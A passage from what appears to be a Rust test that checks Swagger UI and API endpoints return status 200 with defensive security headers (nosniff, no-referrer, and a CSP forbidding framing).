    for path in ["/swagger/index.html", "/swagger/swagger-initializer.js", "/api/tasks"] {
        let r = srv.get_raw(path);
        assert_eq!(r.status, 200, "{path}");
        assert_eq!(r.header("x-content-type-options"), Some("nosniff"), "{path}: {:?}", r.headers);
        assert_eq!(r.header("referrer-policy"), Some("no-referrer"), "{path}: {:?}", r.headers);
        let csp = r.header("content-security-policy").unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: cannot be framed: {csp:?}");
    }
}
